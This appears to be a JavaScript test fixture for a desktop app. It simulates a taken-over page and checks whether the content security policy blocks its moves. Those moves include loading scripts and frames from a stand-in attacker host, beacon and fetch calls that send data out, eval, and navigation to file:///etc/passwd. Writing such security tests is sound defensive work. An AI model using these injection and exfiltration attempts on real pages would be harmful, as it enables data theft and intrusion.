// What a page that somebody has taken over would try, and what ours needs.
const evil = document.body.dataset.evil;
const report = { hash: location.hash, date: "", streamed: [], websocket: "", ran: [], violations: 0, events: [] };
document.addEventListener("securitypolicyviolation", () => report.violations++);
const wait = (ms) => new Promise((done) => setTimeout(done, ms));

const { url, token } = await window.go.desktop.Bridge.Endpoint();
const headers = { Authorization: `Bearer ${token}`, "Content-Type": "application/json", "Connect-Protocol-Version": "1" };
const send = () => fetch(`${url}/report`, { method: "POST", headers, body: JSON.stringify(report) });

async function needs() {
  try {
    report.date = new Intl.DateTimeFormat(undefined, { dateStyle: "full" }).format(0) + new Intl.NumberFormat().format(1.5);
  } catch (e) {
    report.date = `failed: ${e}`;
  }
  const answer = await fetch(`${url}/stream`, { method: "POST", headers, body: "{}" });
  const reader = answer.body.getReader();
  for (let r = await reader.read(); !r.done; r = await reader.read()) report.streamed.push(new TextDecoder().decode(r.value));
  report.websocket = await new Promise((done) => {
    const ws = new WebSocket(`${url.replace(/^http/, "ws")}/console?ticket=t`, ["limiquantix.console", `limiquantix.token.${token}`]);
    ws.binaryType = "arraybuffer";
    ws.onopen = () => ws.send(new TextEncoder().encode("echo"));
    ws.onmessage = (m) => done(new TextDecoder().decode(m.data));
    ws.onerror = () => done("failed");
  });
}

function add(name, set) {
  const e = document.createElement(name);
  set(e);
  document.body.append(e);
  return e;
}

async function tries() {
  add("script", (e) => (e.textContent = "window.ran = ['added script']"));
  add("script", (e) => (e.src = `${evil}/script.js`));
  add("img", (e) => (e.src = `${evil}/img.png`));
  add("img", (e) => ((e.src = "missing.png"), e.setAttribute("onerror", "window.ran = ['onerror']")));
  add("iframe", (e) => (e.src = `${evil}/frame`));
  add("link", (e) => ((e.rel = "stylesheet"), (e.href = `${evil}/style.css`)));
  add("object", (e) => (e.data = `${evil}/object`));
  add("form", (e) => ((e.action = `${evil}/form`), (e.method = "post"))).submit();
  await fetch(`${evil}/fetch`, { method: "POST", mode: "no-cors" }).catch(() => {});
  navigator.sendBeacon?.(`${evil}/beacon`, "x");
  try {
    new Function("window.ran = ['eval']")();
  } catch {
    // as it should be
  }
  if (window.open(`${evil}/open`)) report.ran.push("window.open");
  add("a", (e) => ((e.href = `${evil}/blank`), (e.target = "_blank"))).click();
  add("a", (e) => (e.href = `${evil}/link`)).click();
  await wait(300);
  location.href = "data:text/html,<script>top.ran=1</script>";
  await wait(300);
  location.href = "file:///etc/passwd";
  await wait(300);
  location.href = "limiquantix://kvm1/vm/x/console";
  await wait(300);
  location.href = `${evil}/location`;
  await wait(1000);
  report.ran.push(...(window.ran ?? []));
}

for (const name of ["navigate", "note"])
  window.runtime.EventsOn(name, (value) => {
    if (value === "/quit") return window.runtime.Quit();
    report.events.push(name, value);
    if (name === "note") void send();
  });
await needs();
await tries();
await send();
